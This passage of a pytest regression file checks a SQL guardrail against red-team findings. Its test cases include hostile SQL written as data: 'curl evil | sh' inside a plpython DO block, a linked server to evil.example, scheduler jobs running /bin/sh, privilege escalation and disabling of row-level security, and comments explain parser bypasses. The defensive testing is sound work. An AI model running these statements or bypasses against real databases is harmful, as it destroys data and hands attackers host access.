        id="F24a",
    ),
    case(
        "trino",
        "ALTER TABLE orders SET AUTHORIZATION evil",
        "schema_change privilege",
        "deny",
        id="F24b",
    ),
    case(
        "tsql",
        "ALTER DATABASE shop SET TRUSTWORTHY ON",
        "schema_change privilege",
        "deny",
        id="F24c",
    ),
    case(
        "postgres",
        "ALTER TABLE orders DISABLE ROW LEVEL SECURITY",
        "schema_change privilege",
        "deny",
        id="F24d",
    ),
    case(
        "snowflake",
        "ALTER TABLE orders UNSET ROW ACCESS POLICY p",
        "schema_change privilege",
        "deny",
        id="F24e",
    ),
    case(
        "snowflake",
        "ALTER TABLE customers MODIFY COLUMN email UNSET MASKING POLICY",
        "schema_change privilege",
        "deny",
        id="F24f",
    ),
    case(
        "databricks",
        "ALTER TABLE customers ALTER COLUMN email DROP MASK",
        "schema_change privilege",
        "deny",
        id="F24g",
    ),
    # ---------------------------------------------------------------------------------------
    # F25 BYPASS (medium) sqlite: ATTACH of a parenthesised expression is not seen as a file
    # (_handle_attach reads `.name` of the node). SQLite evaluates the expression and creates
    # the file, which data can then be copied into (ATTACH 'x' || '.db' is already denied).
    # now: allow [schema_change] baseline.allow
    case("sqlite", "ATTACH DATABASE ('/tmp/' || 'x.db') AS x", "export", "deny", id="F25"),
    # ---------------------------------------------------------------------------------------
    # F26 WEAK postgres DO blocks: the body is split on every `;` (also inside comments and
    # strings), so `/* ; */` before a statement turns it into an unparseable fragment, which is
    # downgraded to `dynamic` -> review instead of the mass-mutation deny. A DO block in an
    # untrusted language is host code, not just dynamic.
    # now: review [dynamic] baseline.dynamic
    case(
        "postgres",
        "DO $$ BEGIN /* ; */ DELETE FROM orders; END $$",
        "delete mass_mutation",
        "deny",
        id="F26a",
    ),
    case(
        "postgres",
        "DO $$ BEGIN DELETE FROM orders /* ; */; END $$",
        "delete mass_mutation",
        "deny",
        id="F26b",
    ),
    case(
        "postgres",
        "DO LANGUAGE plpython3u $$ import os; os.system('curl evil | sh') $$",
        "dynamic host_access",
        "deny",
        id="F26c",
    ),
    # ---------------------------------------------------------------------------------------
    # F27 WEAK tsql system procedures whose literal arguments are visible: sp_executesql with a
    # named @stmt parameter, sp_MSforeachtable (runs the command for every table),
    # sp_execute_external_script (Python/R on the host), sp_addlinkedserver (like CREATE
    # SERVER), msdb job steps, EXECUTE AS LOGIN (impersonation) -> review, not deny.
    # now: review [dynamic] baseline.dynamic
    case(
        "tsql",
        "EXEC sp_executesql @stmt = N'DROP TABLE orders'",
        "schema_change delete",
        "deny",
        id="F27a",
    ),
    case(
        "tsql",
        "EXEC sp_MSforeachtable 'TRUNCATE TABLE ?'",
        "delete mass_mutation",
        "deny",
        id="F27b",
    ),
    case(
        "tsql",
        "EXEC sp_execute_external_script @language = N'Python', @script = N'import os; "
        'os.system("whoami")\'',
        "host_access",
        "deny",
        id="F27c",
    ),
    case(
        "tsql",
        "EXEC sp_addlinkedserver @server = 'evil', @srvproduct = '', @provider = "
        "'SQLNCLI', @datasrc = 'evil.example'",
        "schema_change host_access",
        "deny",
        id="F27d",
    ),
    case(
        "tsql",
        "EXEC msdb.dbo.sp_add_jobstep @job_name = 'j', @step_name = 's', @command = "
        "'DROP TABLE orders'",
        "delete dynamic schema_change",
        "deny",
        id="F27e",
    ),
    case("tsql", "EXECUTE AS LOGIN = 'sa'", "privilege", "deny", id="F27f"),
    # ---------------------------------------------------------------------------------------
    # F28 WEAK statically resolvable dynamic SQL left at review: Oracle CALL of a package the
    # analyzer knows is host_access (DBMS_SCHEDULER; the same call in SELECT is denied), Trino
    # `PREPARE p FROM <statement>` (the statement is plain SQL, not a string), MySQL PREPARE
    # FROM a user variable assigned a literal earlier in the same script.
    # now: review [dynamic] baseline.dynamic
    case(
        "oracle",
        "CALL DBMS_SCHEDULER.CREATE_JOB('j', 'EXECUTABLE', '/bin/sh')",
        "dynamic host_access",
        "deny",
        id="F28a",
    ),
    case("trino", "PREPARE p FROM DELETE FROM orders", "delete mass_mutation", "deny", id="F28b"),
    case(
        "mysql",
        "SET @q = 'DROP TABLE orders'; PREPARE s FROM @q; EXECUTE s",
        # dynamic too: @q's value at run time depends on every assignment, not only SETs
        "schema_change delete dynamic",
        "deny",
        id="F28c",
    ),
    # ---------------------------------------------------------------------------------------
    # F29 WEAK renames/swaps not sent to review (ALTER TABLE ... RENAME and SWAP are): schema /
    # database / materialized-view renames, moving a table to another schema, Oracle's RENAME
    # statement, MySQL CHANGE (renames a column), Snowflake schema/database SWAP WITH.
    # now: allow [schema_change] baseline.allow
    case(
        "postgres", "ALTER SCHEMA sales RENAME TO sales_old", "schema_change", "review", id="F29a"
    ),
    case(
        "snowflake", "ALTER DATABASE prod RENAME TO prod_old", "schema_change", "review", id="F29b"
    ),
    case(
        "postgres",
        "ALTER MATERIALIZED VIEW mv RENAME TO mv_old",
        "schema_change",
        "review",
        id="F29c",
    ),
    case("postgres", "ALTER TABLE orders SET SCHEMA archive", "schema_change", "review", id="F29d"),
    case("oracle", "RENAME orders TO orders_old", "schema_change", "review", id="F29e"),
    case(
        "mysql",
        "ALTER TABLE orders CHANGE total amount DECIMAL(10,2)",
        "schema_change",
        "review",
        id="F29f",
    ),
    case(
        "snowflake",
        "ALTER SCHEMA analytics SWAP WITH scratch",
        "schema_change",
        "review",
        id="F29g",
    ),
    # ---------------------------------------------------------------------------------------
    # F30 FP drops of objects that hold no data are judged as table drops with `delete`: a kind
    # missing from _DROP_KINDS falls back to K.TABLE (DROP TRIGGER, DROP TYPE without CASCADE,
    # Snowflake FILE FORMAT / WAREHOUSE), and CREATE OR REPLACE FILE FORMAT becomes a table
    # replace. DROP TRIGGER IF EXISTS is routine in migrations.
    # now: deny [delete schema_change (read)] baseline.drop / review baseline.replace
    case("postgres", "DROP TRIGGER IF EXISTS trg ON orders", "schema_change", "allow", id="F30a"),
    case("mysql", "DROP TRIGGER trg", "schema_change", "allow", id="F30b"),
    case("postgres", "DROP TYPE IF EXISTS status_enum", "schema_change", "allow", id="F30c"),
    case("snowflake", "DROP FILE FORMAT ff", "schema_change", "allow", id="F30d"),
    case("snowflake", "DROP WAREHOUSE w", "schema_change", "allow", id="F30e"),
    case(
        "snowflake",
        "CREATE OR REPLACE FILE FORMAT ff TYPE = CSV",
        "schema_change",
        "allow",
        id="F30f",
    ),
    # ---------------------------------------------------------------------------------------
    # F31 FP join-bounded UPDATE/DELETE (no WHERE; the JOIN ... ON bounds the rows) are denied as
    # mass mutations, although the equivalent `WHERE id IN (SELECT id FROM staging)` is allowed.
    # `UPDATE o SET ... FROM orders o JOIN staging s ON ...` is the standard T-SQL upsert and
    # `UPDATE a JOIN b ON ... SET` the MySQL one.
    # now: deny [mass_mutation ...] baseline.mass-mutation
    case(
        "tsql",
        "UPDATE o SET o.total = s.total FROM orders o JOIN staging s ON o.id = s.id",
        "read write",
        "allow",
        id="F31a",
    ),
    case(
        "tsql",
        "DELETE o FROM orders o JOIN staging s ON o.id = s.id",
        # Multi-table deletes without a WHERE stay mass mutations, as the issue specifies: a
        # join condition is easy to get wrong and a wrong one deletes every row.
        "read delete mass_mutation",
        "deny",
        id="F31b",
    ),
    case(
        "mysql",
        "UPDATE orders o JOIN staging s ON o.id = s.id SET o.total = s.total",
        "read write",
        "allow",
        id="F31c",
    ),
    case(  # as F31b: multi-table deletes without a WHERE are mass mutations, as specified
        "mysql",
        "DELETE t FROM t JOIN u ON t.id = u.id",
        "read delete mass_mutation",
        "deny",
        id="F31d",
    ),
    # ---------------------------------------------------------------------------------------
    # F32 FP common statements denied as unparseable. MSCK REPAIR TABLE and LIST have entries in
    # COMMAND_RULES (so they are meant to pass) but sqlglot's parse error short-circuits to
    # unparseable; the rest are everyday ETL (mysqldump emits LOCK/UNLOCK TABLES; TABLOCK is the
    # minimally-logged bulk-load hint; cursor loops use WHERE CURRENT OF).
    # now: deny [unparseable] baseline.unparseable
    case("spark", "MSCK REPAIR TABLE orders", "", "allow", id="F32a"),
    case("snowflake", "LIST @landing", "read", "allow", id="F32b"),
    case("mysql", "LOCK TABLES orders WRITE", "", "allow", id="F32c"),
    case("mysql", "UNLOCK TABLES", "", "allow", id="F32d"),
    case("mysql", "DO GET_LOCK('etl', 10)", "read", "allow", id="F32e"),
    case("mysql", "SELECT * FROM orders INTO @a", "read", "allow", id="F32f"),
    case(
        "tsql",
        "INSERT INTO orders WITH (TABLOCK) SELECT * FROM staging",
        "read write",
        "allow",
        id="F32g",
    ),
    case("tsql", "DELETE FROM orders OUTPUT deleted.* WHERE id = 1", "delete", "allow", id="F32h"),
    case("tsql", "UPDATE STATISTICS orders", "", "allow", id="F32i"),
    case("postgres", "CLUSTER orders USING orders_pkey", "", "allow", id="F32j"),
    case("postgres", "DELETE FROM orders WHERE CURRENT OF c", "delete", "allow", id="F32k"),
    case(  # stores credentials that later statements act with (red-team set A, credentials)
        "duckdb",
        "CREATE SECRET s (TYPE S3, KEY_ID 'a', SECRET 'b')",
        "schema_change privilege",
        "deny",
        id="F32l",
    ),
    case("duckdb", "PIVOT orders ON status USING sum(total)", "read", "allow", id="F32m"),
]


@pytest.mark.parametrize(("dialect", "sql", "intents", "verdict"), FINDINGS)
def test_redteam_finding_stays_fixed(
    dialect: str | None, sql: str, intents: frozenset[str], verdict: str
) -> None:
    from guardrails_core import analyze, check

    analysis = analyze(sql, dialect=dialect, cache=None)
    assert {intent.value for intent in analysis.intents} == intents, [
        (s.operation, [f.message for f in s.findings]) for s in analysis.statements
    ]
    decision = check(sql, dialect=dialect, analysis_cache=None, decision_cache=None)
    assert decision.decision.value == verdict, decision.reasons


if __name__ == "__main__":  # print what the product says today next to the expectation
    from guardrails_core import check

    for param in FINDINGS:
        dialect, sql, intents, verdict = param.values  # type: ignore[attr-defined]
        decision = check(sql, dialect=dialect)
        got = sorted({i.value for s in decision.statements for i in s.intents})
        rule = decision.reasons[0].rule_id if decision.reasons else "-"
        flag = "  " if decision.decision.value == verdict else "!!"
        print(
            f"{flag} {param.id:6} {dialect or 'None':10} "  # type: ignore[attr-defined]
            f"now={decision.decision.value:6} want={verdict:6} {rule:24} {got}"
        )
